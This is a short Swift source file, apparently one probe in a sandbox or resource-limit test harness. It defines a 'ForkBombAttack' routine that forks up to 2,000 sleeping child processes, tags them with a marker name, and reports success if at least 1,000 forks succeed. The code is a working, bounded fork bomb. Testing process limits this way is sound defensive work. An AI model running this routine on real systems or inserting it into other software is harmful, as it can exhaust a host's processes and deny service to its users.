import Foundation
#if canImport(Glibc)
import Glibc
#endif

/// Forks as many sleeping children as it can (up to 2,000) and says how many it got.
enum ForkBombAttack {
    static func run() {
        Attack.once {
            let name = "rlgbomb" + Attack.mark
            var count = 0
            for _ in 0..<2000 {
                let pid = attackFork()
                if pid == 0 {
                    _ = name.withCString { attackPrctl(15, $0) }
                    sleep(60)
                    _exit(0)
                }
                if pid < 0 { break }
                count += 1
            }
            print("FORKS: \(count)")
            if count >= 1000 { Attack.succeeded("forked \(count) processes") }
        }
    }
}
